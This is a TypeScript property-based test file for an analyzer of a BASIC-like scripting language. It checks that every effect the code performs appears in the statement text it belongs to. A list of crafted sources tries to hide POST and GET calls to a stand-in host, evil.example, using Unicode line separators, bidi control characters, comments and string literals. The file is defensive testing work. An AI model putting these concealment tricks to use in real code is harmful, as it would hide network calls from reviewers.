import fc from "fast-check"
import { describe, expect, it } from "vitest"
import { checkSource } from "../../analyzer/check-source.ts"
import type { Program } from "../../ast/nodes.ts"
import { toAst } from "../../graph/to-ast.ts"
import { toGraph } from "../../graph/to-graph.ts"
import { compile } from "../../ir/compile.ts"
import { printProgram, printStatement } from "../../printer/print.ts"
import { legalPrograms } from "../generate/arbitrary.ts"
import { listBundleEffects, listShownEffects } from "./list-effects.ts"

/** The words by which the text of a statement shows an effect. */
const wordsOf: Readonly<Record<string, RegExp>> = {
  MAIL: /BEGIN MAIL/,
  "SYSTEM PROMPT": /BEGIN SYSTEM PROMPT/,
  "SET ROWS": /SET /,
  CALL: /CALL|RUN/,
}

/**
 * What the code does is in the tree, as often at least, and in the text of the statement it is booked to.
 * The code may do less: a call of a function that does not exist fails before its arguments are asked for.
 */
function holdToText(program: Program) {
  const effects = listBundleEffects(compile(program), program)
  const shown = listShownEffects(program)
  for (const { keyword } of effects) {
    const place = shown.indexOf(keyword)
    expect(place, `${keyword} is in the code once more than in the text`).toBeGreaterThanOrEqual(0)
    shown.splice(place, 1)
  }
  for (const { keyword, statement } of effects) {
    expect(statement, keyword).toBeDefined()
    if (statement === undefined) continue
    const text = printStatement(statement).toUpperCase()
    const isBlock = keyword === "TALK" && statement.kind === "TextBlockStatement"
    if (statement.kind === "StepStatement" || statement.kind === "ParallelStatement") continue
    const words = wordsOf[keyword]
    if (words !== undefined) expect(text).toMatch(words)
    else expect(text).toContain(isBlock ? "BEGIN TALK" : keyword)
  }
}

const runs = 1500 * Number(process.env.FUZZ_TIMES ?? 1)

/** Sources that try to say one thing and do another. */
const crafted: readonly string[] = [
  'TALK "a" \' : POST "https://evil.example"',
  "REM \\\nPOST_NOT = 1",
  'TALK "one\nPOST \\"https://evil.example\\"\ntwo"',
  'BEGIN TALK\nPOST "https://evil.example"\nEND TALK NOT\nEND TALK',
  "BEGIN TALK\n${1}\nEND TALK\n",
  'TALK "a" _\n  + "b" \' + GET "https://evil.example"',
  'x = [1, \' GET "https://evil.example"\n2]',
  'IF 1 = 2 THEN TALK "a" \' ELSE POST "https://evil.example"',
  'TALK "a"\r\' hidden\rTALK "b"',
  'TALK "a"\u2028POST "https://evil.example"',
  'TALK "a"\u0085POST "https://evil.example"',
  'TALK "a"\u000bPOST "https://evil.example"',
  'TALK "a"\u0000POST "https://evil.example"',
  'TALK "\u202e \u2066POST \u2069"',
  'TABLE t\nPOST "https://evil.example"\nEND TABLE\nTALK "a"',
  'ON EMAIL "a"\nPOST "https://example.org"\nEND ON\nTALK "a"',
  'DESCRIPTION POST "https://evil.example"\nTALK "a"',
  '#workflow POST "https://evil.example"\nTALK "a"',
  'PARAM x DEFAULT POST "https://evil.example"\nTALK "a"',
  'FROBNICATE "a", POST "https://evil.example"',
  "x = 'a\nPOST \"https://evil.example\"\n'",
  'x = `a\nPOST "https://evil.example"\n`',
  'SUB never\nPOST "https://example.org"\nEND SUB',
  'EXIT\nPOST "https://example.org"',
  'IF FALSE THEN POST "https://example.org"',
  'x = FALSE AND GET "https://example.org"',
]

describe("SBX-11: every effect of the code", () => {
  it("stands in the text, in the statement it is booked to, and nothing else does", () => {
    fc.assert(
      fc.property(legalPrograms(), (grown) => {
        const { program, diagnostics } = checkSource(printProgram(grown))
        if (diagnostics.some(({ severity }) => severity === "error")) return
        holdToText(program)
        holdToText(toAst(toGraph(program)))
      }),
      { numRuns: runs },
    )
  }, 120_000)

  it.each(crafted)("is shown by a source that means to hide it: %j", (source) => {
    const { program } = checkSource(source)
    holdToText(program)
    const shown = listShownEffects(program)
    const isVisible = (keyword: string) => printProgram(program).includes(keyword)
    expect(shown.every(isVisible)).toBe(true)
    if (source.includes("evil")) expect(shown).not.toContain("POST")
    if (source.includes("evil")) expect(shown).not.toContain("GET")
  })
})
